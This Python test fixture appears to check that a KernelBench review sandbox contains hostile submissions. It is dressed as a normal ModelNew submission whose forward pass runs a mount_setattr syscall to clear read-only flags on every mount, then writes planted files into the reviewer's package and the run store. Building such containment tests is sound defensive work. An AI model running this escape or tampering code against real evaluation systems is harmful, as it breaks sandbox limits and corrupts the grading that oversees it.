"""Root escape, step 2: clear the read-only flag of every mount (mount_setattr, AT_RECURSIVE) and
write into the reviewer's package and the run store. Expected: refused, nothing written."""

import ctypes


class _Attr(ctypes.Structure):
    _fields_ = [("attr_set", ctypes.c_uint64), ("attr_clr", ctypes.c_uint64),
                ("propagation", ctypes.c_uint64), ("userns_fd", ctypes.c_uint64)]


def attack(t: dict) -> dict:
    libc = ctypes.CDLL(None, use_errno=True)
    attr = _Attr(0, 0x1, 0, 0)  # clear MOUNT_ATTR_RDONLY
    rc = libc.syscall(442, -100, b"/", 0x8000, ctypes.byref(attr), ctypes.c_size_t(ctypes.sizeof(attr)))
    wrote = []
    for path in t.get("write", []):
        try:
            with open(path, "w") as fh:
                fh.write("planted by a submission")
            wrote.append(path)
        except OSError:
            pass
    return {"escaped": rc == 0, "wrote": wrote}


# -- the same file is a KernelBench submission (the review runs it) and a stdlib script (the
# unprivileged run of the suite): it reports what it achieved, as JSON, in its exception.
def _targets() -> dict:
    import json
    from pathlib import Path

    p = Path(__file__).with_name("targets.json")
    return json.loads(p.read_text()) if p.exists() else {}


try:
    import torch.nn as _nn
except ImportError:  # run as a script
    _nn = None

if _nn is not None:
    class ModelNew(_nn.Module):
        def forward(self, x):
            import json

            raise RuntimeError("KREVIEW-HOSTILE " + json.dumps(attack(_targets())))

if __name__ == "__main__":
    import json
    import sys

    print("KREVIEW-HOSTILE " + json.dumps(attack(json.loads(sys.argv[1]))))

